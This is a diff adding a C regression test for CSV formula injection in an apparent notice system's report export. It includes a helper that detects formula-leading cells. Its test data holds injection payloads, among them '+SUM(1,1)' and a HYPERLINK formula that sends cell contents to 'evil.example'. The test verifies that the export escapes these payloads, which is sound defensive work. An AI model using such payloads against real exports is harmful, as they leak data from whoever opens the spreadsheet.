@@ -376,3 +376,59 @@ Test(notice, reports_for_hundreds_of_users)
     cr_assert(strncmp(csv, "\"department\",\"login\"", 20) == 0);
     cJSON_Delete(r);
 }
+
+/* The first cell of a CSV (every cell quoted, as Kizuna writes them) that a spreadsheet would
+ * run as a formula, or that is not quoted; NULL if there is none. */
+static const char *csv_formula_cell(const char *csv)
+{
+    const char *p = csv;
+    while (*p) {
+        if (*p != '"' || (p[1] && strchr("=+-@\t\r", p[1])))
+            return p;
+        for (p++; *p && !(*p == '"' && p[1] != '"'); p += *p == '"' ? 2 : 1)
+            ;
+        if (!*p)
+            return NULL;
+        p++;
+        if (*p == ',' || *p == '\n')
+            p++;
+    }
+    return NULL;
+}
+
+/* Issue 12, defect 5: a display name "+SUM(1,1)" and a comment "=HYPERLINK(...)" went into
+ * the report's CSV unchanged, and a spreadsheet ran them. */
+Test(notice, the_report_csv_runs_no_formula_in_a_spreadsheet)
+{
+    cJSON *r = ws_callf(&admin,
+                        "\"op\":\"user.add\",\"login\":\"evil\",\"password\":\"%s\","
+                        "\"name\":\"+SUM(1,1)\",\"department\":\"@総務課\"",
+                        PW);
+    cr_assert_str_eq(reply_code(r), "ok");
+    cJSON_Delete(r);
+    long long id = post(&admin,
+                        "\"title\":\"安否確認\",\"to\":[\"user:evil\",\"user:soumu1\"],"
+                        "\"choices\":[\"-不明\",\"無事\"]",
+                        2);
+    struct ws u;
+    as_user(&u, "evil");
+    r = ws_callf(&u,
+                 "\"op\":\"notice.respond\",\"notice\":%lld,\"choice\":\"1\","
+                 "\"comment\":\"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"無事\\\")\"",
+                 id);
+    cr_assert_str_eq(reply_code(r), "ok");
+    cJSON_Delete(r);
+    ws_close_fd(&u);
+    r = ws_callf(&admin, "\"op\":\"notice.report\",\"notice\":%lld,\"format\":\"csv\"", id);
+    cr_assert_str_eq(reply_code(r), "ok");
+    const char *csv = cJSON_GetObjectItem(r, "csv")->valuestring;
+    const char *bad = csv_formula_cell(csv);
+    cr_assert_null(bad, "a cell a spreadsheet runs: %.60s", bad);
+    cr_assert(strstr(csv, "\"'@総務課\",\"evil\",\"'+SUM(1,1)\","), "%s", csv);
+    cr_assert(
+        strstr(csv, ",\"'-不明\",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"無事\"\")\","),
+        "%s", csv);
+    cr_assert(strstr(csv, "\"総務課\",\"soumu1\",\"soumu1\","), "ordinary cells unchanged: %s",
+              csv);
+    cJSON_Delete(r);
+}
